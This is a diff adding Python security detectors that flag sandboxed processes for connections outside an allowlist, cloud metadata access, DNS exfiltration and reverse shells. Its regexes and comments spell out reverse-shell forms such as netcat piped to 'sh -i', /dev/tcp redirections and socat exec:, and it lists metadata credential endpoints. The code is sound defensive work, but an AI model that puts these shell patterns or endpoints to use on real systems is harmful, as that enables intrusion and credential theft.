@@ -1,0 +1,294 @@
+"""Network detectors: egress past the allowlist, DNS used as a data channel, reverse shells.
+
+A refused or failed connect is flagged like a successful one (the attempt is the signal).
+Every list and threshold is a param (detectors/config.py).
+"""
+
+from __future__ import annotations
+
+import fnmatch
+import ipaddress
+import math
+import re
+from collections import Counter, deque
+from collections.abc import Iterable
+from functools import lru_cache
+from typing import Any
+
+from collector.events import ConnectEvent, Event, ExecEvent, SyscallEvent
+from detectors.base import Context, Detector, DetectorSpec, Finding, register
+
+IPNet = ipaddress.IPv4Network | ipaddress.IPv6Network
+IPAddr = ipaddress.IPv4Address | ipaddress.IPv6Address
+INET = ("AF_INET", "AF_INET6")
+SENDS = ("sendto", "sendmsg", "sendmmsg")
+
+
+def outcome(ev: Event) -> dict[str, Any]:
+    return {"ret": getattr(ev, "ret", None), "error": getattr(ev, "error", None)}
+
+
+@lru_cache(maxsize=256)
+def _networks(cidrs: tuple[str, ...]) -> tuple[IPNet, ...]:
+    return tuple(ipaddress.ip_network(c, strict=False) for c in cidrs)
+
+
+def parse_ip(address: str | None) -> IPAddr | None:
+    """An IP address from an event (IPv6 `%scope` dropped, IPv4-mapped IPv6 unwrapped)."""
+    if not address:
+        return None
+    try:
+        ip = ipaddress.ip_address(address.split("%", 1)[0])
+    except ValueError:
+        return None
+    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
+        return ip.ipv4_mapped
+    return ip
+
+
+def in_any(ip: IPAddr, cidrs: list[str]) -> bool:
+    try:
+        nets = _networks(tuple(cidrs))
+    except ValueError:
+        return False
+    return any(ip.version == n.version and ip in n for n in nets)
+
+
+@register
+class EgressViolation(Detector):
+    """connect, sendto, sendmsg and sendmmsg (with a destination) to an IPv4/IPv6 address
+    outside `allow`. The default is loopback only: sandbox-runtime sends the sandbox's
+    traffic (package registries, DNS through the host's resolver) through its proxies on
+    loopback, so a direct connection elsewhere is a way around its domain allowlist. A
+    host that lets agents out directly lists its networks in `allow`, or sets
+    `allow_all_other = true` to keep only the metadata check. Cloud metadata addresses
+    (`metadata`: AWS/GCP/Azure 169.254.169.254, AWS IPv6 fd00:ec2::254, ECS 169.254.170.2,
+    Alibaba 100.100.100.200) are flagged even when allowed, with severity critical:
+    credentials live there. Refused and unreachable attempts count. Past `kill_count`
+    violations in a session the action becomes kill (0: never). Unix sockets are
+    `runtime_socket`'s; sends on a connected socket were checked at its connect."""
+
+    spec = DetectorSpec(
+        id="egress_violation",
+        title="Network Egress Outside The Allowlist",
+        description="a connect or send to an address outside the allowlist (cloud "
+                    "metadata addresses always); kill above a count per session",
+        severity="high",
+        action="alert",
+        mitre=("T1041", "T1552.005", "T1071"),
+        output="{syscall} to {address} port {port} by {comm}",
+        params={
+            # loopback; a connect to the unspecified address (0.0.0.0, ::) also reaches
+            # the local host on Linux
+            "allow": ["127.0.0.0/8", "::1/128", "0.0.0.0/32", "::/128"],
+            "allow_all_other": False,    # true: only the metadata addresses are flagged
+            "metadata": ["169.254.169.254/32", "fd00:ec2::254/128", "169.254.170.2/32",
+                         "100.100.100.200/32"],
+            "kill_count": 20,            # violations per session past which: kill (0: never)
+        },
+    )
+
+    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
+        if isinstance(ev, ConnectEvent):
+            syscall = "connect"
+        elif isinstance(ev, SyscallEvent) and ev.syscall in SENDS:
+            syscall = ev.syscall
+        else:
+            return
+        if ev.family not in INET:
+            return
+        ip = parse_ip(ev.address)
+        if ip is None:
+            return
+        p = ctx.params
+        metadata = in_any(ip, p["metadata"])
+        if not metadata and (p["allow_all_other"] or in_any(ip, p["allow"])):
+            return
+        count = ctx.state["count"] = ctx.state.get("count", 0) + 1
+        action = "kill" if p["kill_count"] and count > p["kill_count"] else None
+        yield Finding(
+            key=f"[{ev.address}]:{ev.port}" if ip.version == 6 else f"{ev.address}:{ev.port}",
+            fields={"syscall": syscall, "address": ev.address, "port": ev.port,
+                    "comm": ev.comm, "metadata": metadata, "count": count, **outcome(ev)},
+            severity="critical" if metadata else None, action=action,
+            note="cloud metadata address" if metadata else "")
+
+
+_LABEL_SPLIT = re.compile(r"(?<!\\)\.")
+
+
+def entropy(s: str) -> float:
+    """Shannon entropy in bits per character."""
+    if not s:
+        return 0.0
+    n = len(s)
+    return -sum(c / n * math.log2(c / n) for c in Counter(s).values())
+
+
+def labels(query: str) -> list[str]:
+    return [x for x in _LABEL_SPLIT.split(query.rstrip(".")) if x]
+
+
+@register
+class DnsExfil(Detector):
+    """DNS queries (the `dns_query` of sends to port 53 or DNS-looking sends) used as a
+    data channel: a label longer than `max_label_length` (DNS allows 63; real host names'
+    labels stay well below 50), a hyphen-free run of `entropy_min_length`+ characters in a
+    label whose Shannon entropy exceeds `max_entropy` bits per character (encoded data:
+    base32 scores about 4.2, 22 distinct characters 4.46; words stay near 3-3.5, and so
+    does hex (at most 4.0: hex data is left to the length and rate checks); runs, not whole
+    labels, because hyphenated names such as `github-production-release-asset-2e65be`
+    score above 4 as a whole), or more than `max_names` distinct names queried in
+    `window` seconds in a session (a tunnel: every chunk is a new name, so caches cannot
+    answer it; repeated lookups of one name, as Node makes for every request to its
+    registry, count once). Keys fold on
+    the query's last two labels, so a burst to one domain is one alert and a count. Data
+    encoded in short labels below the rate limit is not caught."""
+
+    spec = DetectorSpec(
+        id="dns_exfil",
+        title="Possible DNS Exfiltration",
+        description="DNS queries with overlong or high-entropy labels, or at a high rate",
+        severity="high",
+        action="alert",
+        mitre=("T1048.003", "T1071.004"),
+        output="DNS {reason} for {query} by {comm}",
+        params={
+            "max_label_length": 50,      # DNS allows 63; real hostnames' labels stay short
+            "max_entropy": 4.0,          # bits/char; English-like names stay near 3-3.5
+            "entropy_min_length": 20,    # entropy is only meaningful on long labels
+            "max_names": 60,             # distinct names per window per session; 0: off
+            "window": 10.0,              # seconds
+        },
+    )
+
+    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
+        if not isinstance(ev, SyscallEvent) or not ev.dns_query:
+            return
+        p = ctx.params
+        query = ev.dns_query
+        labs = labels(query)
+        domain = ".".join(labs[-2:]) if labs else query
+        longest = max(labs, key=len) if labs else ""
+        # entropy of the longest hyphen-free run: hyphenated words
+        # (github-production-release-asset-2e65be) add up to a high entropy, encoded data
+        # has no hyphens (hex, base32) or few
+        run = max((r for lab in labs for r in lab.split("-")), key=len, default="")
+        base = {"query": query, "domain": domain, "comm": ev.comm}
+        ent = round(entropy(run), 2)
+        if len(longest) > p["max_label_length"]:
+            yield Finding(key=f"long:{domain}", fields={
+                "reason": f"label of {len(longest)} chars", **base,
+                "label_length": len(longest), "entropy": ent})
+        elif len(run) >= p["entropy_min_length"] and ent > p["max_entropy"]:
+            yield Finding(key=f"entropy:{domain}", fields={
+                "reason": f"label entropy {ent}", **base,
+                "label_length": len(run), "entropy": ent})
+        if p["max_names"]:
+            recent: deque[tuple[int, str]] = ctx.state.setdefault("recent", deque())
+            counts: Counter[str] = ctx.state.setdefault("counts", Counter())
+            window_ns = int(p["window"] * 1e9)
+            recent.append((ev.ts, query))
+            counts[query] += 1
+            while recent and recent[0][0] < ev.ts - window_ns:
+                _, old = recent.popleft()
+                counts[old] -= 1
+                if not counts[old]:
+                    del counts[old]
+            if len(counts) > p["max_names"] and ev.ts >= ctx.state.get("quiet_until", 0):
+                ctx.state["quiet_until"] = ev.ts + window_ns  # one finding per window
+                yield Finding(key="rate", fields={
+                    "reason": f"{len(counts)} distinct names in {p['window']}s", **base,
+                    "names": len(counts)})
+
+
+_NC = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")
+_NC_EXEC = re.compile(r"\A-(?:[a-zA-Z]*[ec][a-zA-Z]*|-exec|-sh-exec|-lua-exec)(?:=.*)?\Z")
+_DEV_REDIRECT = re.compile(r"[<>]&?\s*/dev/(?:tcp|udp)/")
+_NET_TOOL = r"(?:nc|ncat|netcat|telnet|openssl\s+s_client)"
+_PIPE_SHELL = re.compile(  # mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f, and the like
+    rf"\b(?:ba|da|z|k)?sh\s+-i\b[^;]*\|\s*(?:\S*/)?{_NET_TOOL}\b"
+    rf"|\b{_NET_TOOL}\b[^;&|]*\|\s*(?:\S*/)?(?:ba|da|z|k)?sh\b")
+_SOCAT_EXEC = re.compile(r"(?i)(?:\A|[,!])\s*(?:exec|system)\s*:")
+
+
+def _base(s: str) -> str:
+    return s.rsplit("/", 1)[-1]
+
+
+@register
+class ReverseShell(Detector):
+    """A socket dup'ed onto fd 0, 1 or 2 (dup2/dup3 `newfd`, dup/fcntl F_DUPFD's return,
+    with `args.socket` true); an exec of a shell (`shells`) whose arguments redirect to or
+    from `/dev/tcp/` or `/dev/udp/` (`grep /dev/tcp/` is not flagged), or pipe `sh -i`
+    into netcat/telnet/openssl (the mkfifo shell); an interpreter (`interpreters`) with
+    `-c`/`-e`/`-r` code that names a socket (`socket_markers`) and a shell or process
+    spawn (`shell_markers`), case-insensitively; netcat with `-e`/`-c` (`ncat --exec`,
+    `--sh-exec`); socat with an `exec:` or `system:` address. Exec attempts that failed
+    with ENOENT (a shell's PATH search) are skipped. A shell whose stdio is a socket it
+    inherited (no dup in the session) is not visible without the fd table at exec."""
+
+    spec = DetectorSpec(
+        id="reverse_shell",
+        title="Reverse Shell",
+        description="a socket dup'ed onto fd 0-2, /dev/tcp redirections, interpreter "
+                    "socket+shell one-liners, nc -e or socat exec:",
+        severity="critical",
+        action="kill",
+        mitre=("T1059.004", "T1059.006", "T1071"),
+        output="{how} by {comm}",
+        params={
+            # a shell whose command line redirects to or from /dev/tcp or /dev/udp
+            "shells": ["bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "busybox"],
+            "interpreters": ["python*", "perl*", "ruby*", "php*", "node", "nodejs", "lua*"],
+            "socket_markers": ["socket", "fsockopen", "TCPSocket", "net.connect",
+                               "net.Socket", "/dev/tcp/"],
+            "shell_markers": ["pty", "dup2", "/bin/sh", "/bin/bash", "sh -i", "bash -i",
+                              "subprocess", "child_process", "exec(", "system(", "popen",
+                              "spawn"],
+        },
+    )
+
+    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
+        if isinstance(ev, SyscallEvent):
+            yield from self._dup(ev)
+        elif isinstance(ev, ExecEvent) and ev.error != "ENOENT":
+            yield from self._exec(ctx, ev)
+
+    @staticmethod
+    def _dup(ev: SyscallEvent) -> Iterable[Finding]:
+        if ev.syscall not in ("dup", "dup2", "dup3", "fcntl") \
+                or ev.args.get("socket") is not True:
+            return
+        newfd = ev.args.get("newfd") if ev.syscall in ("dup2", "dup3") else ev.ret
+        if isinstance(newfd, int) and 0 <= newfd <= 2:
+            yield Finding(key=f"dup:{newfd}", fields={
+                "how": f"socket fd {ev.args.get('oldfd', ev.args.get('fd'))} {ev.syscall}'ed "
+                       f"onto fd {newfd}",
+                "syscall": ev.syscall, "fd": newfd, "comm": ev.comm, **outcome(ev)})
+
+    @staticmethod
+    def _exec(ctx: Context, ev: ExecEvent) -> Iterable[Finding]:
+        p = ctx.params
+        argv = ev.argv
+        names = {_base(ev.filename), _base(argv[0]) if argv else ""}
+        line = " ".join(argv)
+        low = line.lower()
+        how: str | None = None
+        if names & set(p["shells"]) and any(_DEV_REDIRECT.search(a) for a in argv[1:]):
+            how = "shell with a /dev/tcp or /dev/udp redirection"
+        elif names & set(_NC) and any(_NC_EXEC.match(a) for a in argv[1:]):
+            how = "netcat with a program on the connection (-e/-c)"
+        elif "socat" in names and any(_SOCAT_EXEC.search(a) for a in argv[1:]):
+            how = "socat with exec:/system:"
+        elif any(fnmatch.fnmatchcase(n, g) for n in names for g in p["interpreters"] if n) \
+                and any(a in ("-c", "-e", "-r", "--eval") for a in argv[1:]) \
+                and any(m.lower() in low for m in p["socket_markers"]) \
+                and any(m.lower() in low for m in p["shell_markers"]):
+            how = "interpreter one-liner with a socket and a shell"
+        elif names & set(p["shells"]) and any(_PIPE_SHELL.search(a) for a in argv[1:]):
+            how = "shell piped to or from netcat/telnet"
+        if how:
+            yield Finding(key=f"exec:{_base(ev.filename)}", fields={
+                "how": how, "filename": ev.filename, "argv": argv, "comm": ev.comm,
+                **outcome(ev)})
